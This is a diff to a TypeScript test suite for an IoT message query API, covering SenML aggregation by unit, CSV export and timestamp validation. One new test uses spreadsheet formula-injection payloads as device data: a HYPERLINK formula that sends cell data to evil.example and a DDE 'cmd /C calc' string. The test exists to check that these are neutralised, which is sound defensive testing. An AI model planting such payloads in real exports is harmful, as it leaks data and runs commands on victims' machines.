@@ -35,6 +35,24 @@ beforeAll(async () => {
   expect(await drain(ch)).toBe(true);
 });
 
+/** RFC 4180 rows (quoted fields may hold commas, quotes and line breaks). */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [], cell = '', quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const ch = text[i]!;
+    if (quoted) {
+      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
+      else if (ch === '"') quoted = false;
+      else cell += ch;
+    } else if (ch === '"') quoted = true;
+    else if (ch === ',') row.push(cell), (cell = '');
+    else if (ch === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
+    else cell += ch;
+  }
+  return rows;
+}
+
 /** A would-be cursor: base64url of some JSON. */
 const b64url = (v: unknown) => btoa(JSON.stringify(v)).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '');
 const q = (query: string, path = '') => api('GET', `/channels/${ch}/messages${path}?${query}`, { token: t });
@@ -252,7 +270,7 @@ describe('message query API', () => {
 
   it('aggregates SenML values into time buckets', async () => {
     const agg = async (a: string, interval?: string) => (await q(`format=senml&name=sensor/temp&aggregation=${a}&order=asc${interval ? `&interval=${interval}` : ''}`)).body.items;
-    expect(await agg('avg')).toEqual([{ time: T0 * 1000, name: 'sensor/temp', value: 22.5, count: 6 }]);
+    expect(await agg('avg')).toEqual([{ time: T0 * 1000, name: 'sensor/temp', unit: 'Cel', value: 22.5, count: 6 }]);
     // T0 s is a whole multiple of 20 s, so the buckets start at T0, T0+20 s, T0+40 s.
     expect((await agg('min', '20s')).map((b: { time: number; value: number; count: number }) => [b.time - T0 * 1000, b.value, b.count])).toEqual([[0, 20, 2], [20_000, 22, 2], [40_000, 24, 2]]);
     const maxes = await agg('max', '1m');
@@ -266,6 +284,30 @@ describe('message query API', () => {
     expectProblem(await q('interval=1h'), 400);
   });
 
+  it('aggregates per name and unit: values of one name in other units are never mixed into one bucket', async () => {
+    const other = (await api('POST', `/orgs/${org}/channels`, { token: t, body: { name: 'units' } })).body.id as string;
+    await api('PUT', `/orgs/${org}/channels/${other}/devices/${dev.id}`, { token: t, body: {} });
+    // One sensor, first reporting in Cel, then (a firmware update) in K; and a string record of the same name.
+    await publish(other, dev.key, JSON.stringify([{ bn: 'room/', bt: T0, n: 'temp', u: 'Cel', v: 20 }, { n: 'temp', u: 'Cel', v: 22, t: 10 }, { n: 'temp', u: 'K', v: 300, t: 20 }, { n: 'temp', vs: 'sensor fault', t: 30 }]), 'application/senml+json');
+    expect(await drain(other)).toBe(true);
+    const agg = async (query: string) => (await api('GET', `/channels/${other}/messages?format=senml&name=room/temp&order=asc&${query}`, { token: t })).body.items;
+    expect(await agg('aggregation=avg')).toEqual([
+      { time: T0 * 1000, name: 'room/temp', unit: 'Cel', value: 21, count: 2 },
+      { time: (T0 + 20) * 1000, name: 'room/temp', unit: 'K', value: 300, count: 1 },
+    ]);
+    expect(await agg('aggregation=max&interval=1h')).toEqual([
+      { time: Math.floor(T0 / 3600) * 3_600_000, name: 'room/temp', unit: 'Cel', value: 22, count: 2 },
+      { time: Math.floor(T0 / 3600) * 3_600_000, name: 'room/temp', unit: 'K', value: 300, count: 1 },
+    ]);
+    // Counting: the record without a unit has a bucket of its own too, with no unit (starting at its time, T0 + 30 s).
+    expect((await agg('aggregation=count')).map((b: { time: number; unit?: string; count: number }) => [b.time - T0 * 1000, b.unit, b.count])).toEqual([[0, 'Cel', 2], [20_000, 'K', 1], [30_000, undefined, 1]]);
+    // The CSV says the unit in its own column (empty for none).
+    const csv = await checkedFetch(`http://edgeflux.test/channels/${other}/messages?format=senml&name=room/temp&aggregation=sum&order=asc`, { headers: { authorization: `Bearer ${t}`, accept: 'text/csv' } });
+    const [header, ...rows] = (await csv.text()).trim().split('\r\n').map((l) => l.split(','));
+    expect(header).toEqual(['time', 'name', 'value', 'count', 'unit']);
+    expect(rows.map((r) => [r[2], r[4]])).toEqual([['42', 'Cel'], ['300', 'K']]);
+  });
+
   it('exports CSV with a header and RFC 4180 quoting', async () => {
     const res = await checkedFetch(`http://edgeflux.test/channels/${ch}/messages?format=senml&vs=ok, "fine"%0Areally`, { headers: { authorization: `Bearer ${t}`, accept: 'text/csv' } });
     expect(res.headers.get('content-type')).toContain('text/csv');
@@ -275,29 +317,42 @@ describe('message query API', () => {
     expect(text).toContain('"ok, ""fine""\nreally"');
   });
 
-  it('answers CSV with one fixed header per kind of answer, holding every field of the JSON answer', async () => {
-    /** RFC 4180 rows (quoted fields may hold commas, quotes and line breaks). */
-    const parse = (text: string) => {
-      const rows: string[][] = [];
-      let row: string[] = [], cell = '', quoted = false;
-      for (let i = 0; i < text.length; i++) {
-        const ch = text[i]!;
-        if (quoted) {
-          if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
-          else if (ch === '"') quoted = false;
-          else cell += ch;
-        } else if (ch === '"') quoted = true;
-        else if (ch === ',') row.push(cell), (cell = '');
-        else if (ch === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
-        else cell += ch;
-      }
-      return rows;
+  it('exports CSV that a spreadsheet opens as data: a device\'s text that starts like a formula is never run as one', async () => {
+    const other = (await api('POST', `/orgs/${org}/channels`, { token: t, body: { name: 'formulas' } })).body.id as string;
+    await api('PUT', `/orgs/${org}/channels/${other}/devices/${dev.id}`, { token: t, body: {} });
+    const link = '=HYPERLINK("http://evil.example/?"&A1,"open")';
+    await publish(other, dev.key, link, 'text/plain', 'lab');
+    await publish(other, dev.key, '-2+3', 'text/plain', '=cmd');
+    await publish(other, dev.key, JSON.stringify([{ bn: 'dev/', bt: T0, n: 'state', u: "=cmd|' /C calc'!A0", vs: '@SUM(1+1)' }, { n: 'temp', v: -3, t: 1 }, { n: 'raw', vd: '-_8', t: 2 }]), 'application/senml+json', 'lab');
+    expect(await drain(other)).toBe(true);
+    const csv = async (query: string) => {
+      const res = await checkedFetch(`http://edgeflux.test/channels/${other}/messages?order=asc&${query}`, { headers: { authorization: `Bearer ${t}`, accept: 'text/csv' } });
+      const [header, ...rows] = parseCsv(await res.text());
+      return rows.map((r) => Object.fromEntries(header!.map((k, i) => [k, r[i]])));
     };
+    const messages = await csv('');
+    // Text a device chose (payload, subtopic) that Excel or Sheets would evaluate gets a leading ' (shown, not run).
+    expect(messages.map((m) => [m.subtopic, m.payload])).toEqual([
+      ['lab', `'${link}`],
+      ["'=cmd", "'-2+3"],
+      ['lab', expect.stringContaining('"u":"=cmd')], // a JSON document starts with [: no formula
+    ]);
+    const records = await csv('format=senml');
+    expect(records.map((r) => [r.name, r.unit, r.value, r.stringValue, r.dataValue])).toEqual([
+      ['dev/state', "'=cmd|' /C calc'!A0", '', "'@SUM(1+1)", ''],
+      ['dev/temp', '', '-3', '', ''], // a number stays a number
+      ['dev/raw', '', '', '', '-_8'], // base64url, as stored
+    ]);
+    // JSON keeps every value exactly as stored.
+    expect((await api('GET', `/channels/${other}/messages?order=asc&limit=1`, { token: t })).body.items[0].payload).toBe(link);
+  });
+
+  it('answers CSV with one fixed header per kind of answer, holding every field of the JSON answer', async () => {
     const headers = new Set<string>();
     for (const query of ['', 'format=json', 'format=senml', 'subtopic=blob', 'format=senml&name=sensor/door', 'aggregation=count', 'format=senml&aggregation=avg&interval=10s', 'publisher=nobody', 'format=senml&publisher=nobody']) {
       const json = await q(query);
       const res = await checkedFetch(`http://edgeflux.test/channels/${ch}/messages?${query}`, { headers: { authorization: `Bearer ${t}`, accept: 'text/csv' } });
-      const [header, ...rows] = parse(await res.text());
+      const [header, ...rows] = parseCsv(await res.text());
       headers.add(header!.join(','));
       expect(rows, query).toHaveLength(json.body.items.length);
       json.body.items.forEach((item: Record<string, unknown>, i: number) => {
@@ -328,6 +383,14 @@ describe('message query API', () => {
     expect(expectProblem(await q('format=xml'), 400).detail).toContain('format');
     expect(expectProblem(await q('valeu=3'), 400).detail).toMatch(/valeu|unrecognized/i);
     expect(expectProblem(await q('from=yesterday'), 400).detail).toContain('from');
+    // Seconds since the epoch (Mainflux's unit, date +%s) read as ms would name January 1970: from matched
+    // everything, to nothing, silently. No stored time can be there (created is now; SenML times are ≥ 2**28 s).
+    const seconds = expectProblem(await q(`from=${T0}`), 400).detail;
+    expect(seconds).toContain('from');
+    expect(seconds).toContain(`${T0}000`);
+    expectProblem(await q(`format=senml&to=${T0 + 60}`), 400);
+    expect((await q(`from=${T0}000`)).status).toBe(200);
+    expect((await q('from=0&to=999')).status).toBe(200); // the start of time stays a valid bound
     expectProblem(await q('limit=1&limit=2'), 400);
     // SenML filters on a message listing would filter nothing: refused, not ignored.
     for (const f of ['name=temp', 'v=1', 'vs=zzz', 'vb=true', 'vd=AQ', 'format=json&name=temp', 'aggregation=count&name=temp']) expect(expectProblem(await q(f), 400).detail, f).toContain('format=senml');
